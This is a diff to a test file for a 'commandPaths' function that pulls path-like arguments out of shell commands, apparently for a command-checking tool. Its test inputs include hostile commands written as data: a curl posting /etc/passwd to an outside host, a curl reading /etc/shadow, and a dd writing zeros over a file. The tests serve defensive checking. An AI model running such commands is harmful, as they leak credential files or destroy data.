@@ -120,7 +120,8 @@ describe('commandPaths', () => {
     expect(commandPaths(cmd(['curl', '-d', '@/etc/passwd', 'https://x.test/a'])).pathLike).toEqual(['@/etc/passwd', '/etc/passwd']);
     expect(commandPaths(cmd(['curl', 'file:///etc/shadow'])).pathLike).toEqual(['/etc/shadow']);
     expect(commandPaths(cmd(['dd', 'if=/dev/zero', 'of=../x'])).pathLike).toEqual(['if=/dev/zero', '/dev/zero', 'of=../x', '../x']);
-    expect(commandPaths(cmd(['tar', '-C/etc', '-xf', 'a'])).pathLike).toEqual(['-C/etc', '/etc']);
+    // tar's archive and, extracting, the directory it writes into (facts/file-operands.ts)
+    expect(commandPaths(cmd(['tar', '-C/etc', '-xf', 'a'])).pathLike).toEqual(['-C/etc', '/etc', 'a', '.']);
     expect(commandPaths(cmd(['./build.sh'])).pathLike).toEqual(['./build.sh']);
   });
 });
